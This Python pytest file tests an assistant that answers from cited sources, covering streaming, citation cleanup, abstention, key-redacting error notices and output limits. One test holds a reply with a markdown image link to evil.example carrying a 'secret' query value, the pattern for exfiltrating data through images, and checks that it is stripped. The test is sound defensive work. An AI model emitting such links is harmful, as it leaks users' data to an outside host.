"""A chat model streams, is checked before it counts, and fails in words."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import fields
from threading import Event
from typing import Any

import pytest
from langchain_core import exceptions as langchain_errors

from assistant.answer.model import ModelSpeaker
from assistant.answer.quotes import NOT_TOLD
from assistant.answer.speakers import Utterance
from assistant.evidence.features import Candidate, Features
from assistant.evidence.finder import Finding, Found
from assistant.models.failures import model_failure
from assistant.models.prompt import load_prompt
from assistant.models.reply.marks import NOT_IN_SOURCES
from assistant.types import Ask, Support, Turn
from bakery import embed, evidence, found, query
from scripted_model import Pause, ScriptedChatModel, opened


def speaker(*replies: Any, **options: Any) -> tuple[ModelSpeaker, ScriptedChatModel]:
    model = opened(*replies, **options)
    assert isinstance(model.chat, ScriptedChatModel)
    return ModelSpeaker(model, embed, load_prompt("answer")), model.chat


def say(
    reply: str | Sequence[str | Exception], turns: Sequence[Turn] = (), **options: Any
) -> list[Utterance]:
    return list(speaker(reply, **options)[0].speak(found(), turns))


def answered() -> Found:
    """Evidence whose sentence about training plainly answers."""
    one = evidence()[0]
    chunk = one.passage.chunks[0]
    at = next(
        n
        for n, sentence in enumerate(chunk.sentences)
        if "trained" in sentence.span.of(chunk.document.text)
    )
    features = Features(*[0.0] * len(fields(Features)))
    candidate = Candidate(chunk, at, features, 0.9)
    ask = Ask("How long are they trained?")
    finding = Finding(ask, (one.passage,), (candidate,), (candidate,), 0.9)
    return Found(query("How long are they trained?"), evidence(), (finding,))


def test_it_streams_and_ends_with_citations_cut_from_the_source() -> None:
    said = say(
        [
            "They are trained ",
            "for three months [",
            "1",
            "].",
            " They sit in about 40 loops a year [1].",
        ]
    )
    assert [utterance.text for utterance in said[:4]] == [
        "They are trained ",
        "They are trained for three months ",
        "They are trained for three months ",
        "They are trained for three months [1].",
    ]
    last = said[-1]
    assert not last.abstained
    assert [claim.support for claim in last.claims] == [Support.SUPPORTED, Support.SUPPORTED]
    (citation,) = last.citations
    assert citation.quote == "They are trained for three months and sit in about 40 loops a year."
    assert not any(utterance.citations for utterance in said[:-1])


@pytest.mark.parametrize("cut", range(1, len("They are trained for three months 【1†source】.")))
def test_half_a_marker_is_never_shown(cut: int) -> None:
    reply = "They are trained for three months 【1†source】."
    for utterance in say([reply[:cut], reply[cut:]]):
        assert not set(utterance.text.replace("[1]", "")) & set("[]【】†")


def test_the_model_sees_evidence_question_and_conversation_and_the_prompt_is_kept() -> None:
    talker, model = speaker("They are trained for three months [1].")
    *_, last = talker.speak(
        found("How long?", "How long is the training?"), [Turn("Who trains?", "Falk [1].")]
    )
    sent = [(message.type, message.text) for message in model.asked[0]]
    assert [kind for kind, _ in sent] == ["system", "human"]
    assert [text for _, text in sent] == [text for _, text in last.prompt]
    for shown in ("Every bakery loop", "How long is the training?", "Who trains?", "Falk."):
        assert shown in sent[1][1]


def test_markers_that_name_no_evidence_are_dropped() -> None:
    assert (
        say("They are trained for three months [7][1].")[-1].text
        == "They are trained for three months[1]."
    )


@pytest.mark.parametrize(
    "reply", [NOT_TOLD, f'"{NOT_TOLD}"', f"**{NOT_TOLD}** [1]\n", "The sources don't say"]
)
def test_the_fixed_phrase_alone_is_an_abstention(reply: str) -> None:
    last = say(reply)[-1]
    assert (last.text, last.abstained, last.claims) == (NOT_TOLD, True, ())


def test_when_nothing_is_supported_the_reply_is_shown_with_its_marks_and_counts_as_an_abstention() -> (
    None
):
    last = say("Wages are 90,000 crowns a year [1]. Every warden drives a company car [2].")[-1]
    assert last.abstained
    assert last.text == (
        f"Wages are 90,000 crowns a year [1]. {NOT_IN_SOURCES} Every warden drives a company car "
        f"[2]. {NOT_IN_SOURCES}"
        f"\n\n{NOT_TOLD}"
    )
    assert [claim.support for claim in last.claims] == [Support.UNSUPPORTED] * 2
    assert "openai:rye" in last.notice


def test_what_is_not_in_the_sources_says_so_beside_what_is() -> None:
    last = say("They are trained for three months [1]. Wages are 90,000 crowns a year [1].")[-1]
    assert (
        last.text == "They are trained for three months [1]. Wages are 90,000 crowns a year [1]. "
        f"{NOT_IN_SOURCES}"
    )
    assert not last.abstained


def test_without_evidence_no_model_is_asked() -> None:
    talker, model = speaker("Anything [1].")
    (last,) = talker.speak(Found(query(), (), ()), [])
    assert last.abstained
    assert model.asked == []


FAILURES: list[tuple[Exception, str, str]] = [
    (
        langchain_errors.ModelAuthenticationError("key sk-secret"),
        "asks for a key",
        "ROLECALL_API_KEY",
    ),
    (langchain_errors.ModelNotFoundError("sk-secret"), "no model of that name", "rolecall models"),
    (langchain_errors.ModelConnectionError("sk-secret"), "cannot be reached", "ROLECALL_BASE_URL"),
    (langchain_errors.ModelTimeoutError("sk-secret"), "took too long", "--model quotes"),
    (
        langchain_errors.ContextOverflowError("sk-secret"),
        "too little room",
        "ROLECALL_CONTEXT_WINDOW",
    ),
    (langchain_errors.ModelRateLimitError("sk-secret"), "asked too often", "--model quotes"),
    (langchain_errors.ModelRefusalError("sk-secret"), "declined", "--model quotes"),
    (RuntimeError("sk-secret"), "failed (RuntimeError)", "--model quotes"),
    (ValueError("sk-secret"), "no reply of a model", "address"),
]


@pytest.mark.parametrize(("error", "words", "mend"), FAILURES)
def test_a_failure_names_model_place_cause_and_remedy_but_no_key_and_quotes_answer(
    error: Exception, words: str, mend: str
) -> None:
    talker, _ = speaker([error])
    *_, last = talker.speak(answered(), [])
    assert last.notice.startswith("openai:rye (http://127.0.0.1:9, this machine) ")
    assert words in last.notice
    assert mend in last.notice
    assert "sk-secret" not in last.notice
    assert last.speaker == "quotes"
    assert "They are trained for three months" in last.text and not last.abstained


def test_a_refused_key_is_not_in_the_logged_cause_either(caplog: pytest.LogCaptureFixture) -> None:
    failure = model_failure(
        langchain_errors.ModelAuthenticationError("Wrong key: sk-secret"), opened(), midway=False
    )
    assert failure.__cause__ is None
    assert failure.__suppress_context__
    say([langchain_errors.ModelAuthenticationError("Wrong key: sk-secret")])
    assert "sk-secret" not in caplog.text


def test_what_was_said_before_a_stream_broke_is_kept_checked_and_quotes_answer_beneath() -> None:
    talker, _ = speaker(
        ["The night baker works in Bergen [2]. Wages are 9", ConnectionResetError("gone")]
    )
    said = list(talker.speak(answered(), []))
    assert said[0].text.startswith("The night baker works in Bergen [2].")
    last = said[-1]
    assert "stopped midway" in last.notice
    assert last.text.startswith(
        f"The night baker works in Bergen [2]. Wages are 9 {NOT_IN_SOURCES}"
    )
    assert last.text.index("openai:rye broke off") < last.text.index(
        "They are trained for three months"
    )
    quoted = [last.citations[index].quote for claim in last.claims for index in claim.citations]
    assert [quote.split(" ")[0] for quote in quoted] == ["The", "They"]
    assert not last.abstained


@pytest.mark.parametrize("reply", ["", [], ["", " \n"], "<think>All of it is thought</think>"])
def test_an_empty_reply_is_a_failure(reply: Any) -> None:
    assert "sent back nothing" in say(reply)[-1].notice


@pytest.mark.parametrize(
    ("reply", "form"),
    [
        ('{"answer": "They are trained for three months [1]."}', "JSON"),
        ('```json\n{"answer": "They are trained"}\n```', "JSON"),
        ("<html><body>They are trained</body></html>", "markup"),
        ('<tool_call>{"name": "search"}</tool_call>', "a tool call"),
        ("```python\nprint(1)\n```", "python code"),
    ],
)
def test_a_reply_in_another_format_is_named_and_quotes_answer(reply: str, form: str) -> None:
    *_, last = speaker(reply)[0].speak(answered(), [])
    assert form in last.notice
    assert "They are trained for three months" in last.text and not last.abstained
    assert last.reply == reply


@pytest.mark.parametrize(
    ("reply", "shown"),
    [
        (NOT_TOLD, ""),
        ("The evidence does not state that [1].", "The evidence does not state that [1]."),
    ],
)
def test_where_a_model_finds_no_answer_that_plainly_stands_there_quotes_give_it_beneath(
    reply: str, shown: str
) -> None:
    *_, last = speaker(reply)[0].speak(answered(), [])
    assert last.text.removeprefix(shown).lstrip().startswith("openai:rye found no answer.")
    assert "They are trained for three months" in last.text
    assert not last.abstained and last.citations


def test_when_nothing_is_supported_what_is_nearest_is_quoted() -> None:
    *_, last = speaker("Wages are 90,000 crowns a year [1].")[0].speak(answered(), [])
    marked = f"Wages are 90,000 crowns a year [1]. {NOT_IN_SOURCES}"
    assert last.abstained and last.text.startswith(
        f"{marked}\n\nThe sources don't say what openai:rye said."
    )
    assert "They are trained for three months" in last.text


@pytest.mark.parametrize(
    "reply",
    [
        "Can you rephrase that for a beginner?",
        "I'd ask about the pay in the first interview.",
        "Hello!",
    ],
)
def test_a_reply_that_states_nothing_is_shown_without_a_mark(reply: str) -> None:
    last = say(reply)[-1]
    assert (last.text, last.abstained, last.claims) == (reply, False, ())


@pytest.mark.parametrize(
    "reply", ["It says nothing about the pay.", "No pay is given, so I can't tell what they earn."]
)
def test_an_honest_absence_is_shown_in_its_own_words_as_an_abstention(reply: str) -> None:
    last = say(reply)[-1]
    assert (last.text.startswith(reply), last.abstained, last.claims) == (True, True, ())


def test_a_reply_in_another_language_is_shown_and_checked_by_what_can_be() -> None:
    last = say(
        "Los catadores se forman durante tres meses y participan en unas 40 rondas al año [1]."
    )[-1]
    assert last.text.startswith("Los catadores") and not last.abstained
    assert [claim.support for claim in last.claims] == [Support.WEAK]
    assert "language" in last.notice
    last = say(
        "Los catadores se forman durante 90 meses y participan en muchas rondas al año [1]."
    )[-1]
    assert [claim.support for claim in last.claims] == [Support.UNSUPPORTED]


def test_a_reply_that_goes_in_circles_is_stopped_and_kept_up_to_there() -> None:
    again = "They sit in about 40 loops a year [1]. "
    talker, _ = speaker(["They are trained for three months [1]. ", *[again] * 500])
    said = list(talker.speak(found(), []))
    assert len(said[-1].reply.split()) < 200
    assert said[-1].text == f"They are trained for three months [1]. {again}".strip()
    assert "over and over" in said[-1].notice
    *_, last = speaker("no " * 200)[0].speak(answered(), [])
    assert last.speaker == "quotes" and "over and over" in last.notice


def test_a_reply_that_was_cut_off_says_so() -> None:
    assert (
        "longest reply"
        in say("They are trained for three months [1]. And", finish="length")[-1].notice
    )


def test_a_stream_that_ends_without_saying_so_is_one_that_broke() -> None:
    last = say("They are trained for three months [1].", finish="")[-1]
    assert "stopped midway" in last.notice
    assert last.text.startswith("They are trained for three months [1].")


def test_a_slow_first_word_and_a_pause_are_told_and_the_reader_need_not_wait() -> None:
    hold = Event()
    assert (
        "said nothing for 0.1 s" in say([Pause(hold), "They "], first_token_timeout=0.1)[-1].notice
    )
    last = say(["They are trained for three months [1].", Pause(hold), " And"], stall_timeout=0.1)[
        -1
    ]
    assert "stopped midway" in last.notice and last.text.startswith(
        "They are trained for three months [1]."
    )
    hold.set()


def test_a_passing_failure_is_tried_again_and_a_lasting_one_is_not(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("assistant.models.stream.LONGEST_PAUSE", 0.0)
    busy = langchain_errors.ModelRateLimitError("slow down")
    talker, model = speaker([busy], [busy], "They are trained for three months [1].", retries=2)
    *_, last = talker.speak(found(), [])
    assert last.text == "They are trained for three months [1]." and not last.notice
    talker, model = speaker([langchain_errors.ModelAuthenticationError("no")], retries=2)
    *_, last = talker.speak(found(), [])
    assert len(model.asked) == 1


def test_thoughts_links_and_images_are_not_shown() -> None:
    reply = (
        "<think>The pay is [1] secret.</think>They are trained for three months [1]. "
        "![x](http://evil.example/?q=secret) See [the page](http://evil.example) or "
        "https://evil.example/a."
    )
    for utterance in say(list(reply)):
        assert "evil" not in utterance.text and "secret" not in utterance.text
    assert say(reply)[-1].text.startswith("They are trained for three months [1].")


def test_what_does_not_fit_is_left_out_with_notice() -> None:
    turns = [Turn("Who trains?", "Falk. " * 400)]
    last = say("They are trained for three months [1].", turns, window=1800)[-1]
    assert "latest part" in last.notice
    *_, last = speaker("They are trained for three months [1].", window=1200)[0].speak(
        found("long " * 300), []
    )
    assert "shortened" in last.notice
    assert "too little room" in say("They [1].", window=512)[-1].notice


def test_stopping_midway_closes_the_models_stream() -> None:
    hold = Event()
    talker, model = speaker(
        ["They ", "are ", Pause(hold), AssertionError("read on after the stop")]
    )
    stream = talker.speak(found(), [])
    assert next(stream).text == "They "
    stream.close()
    hold.set()
    assert len(model.asked) == 1
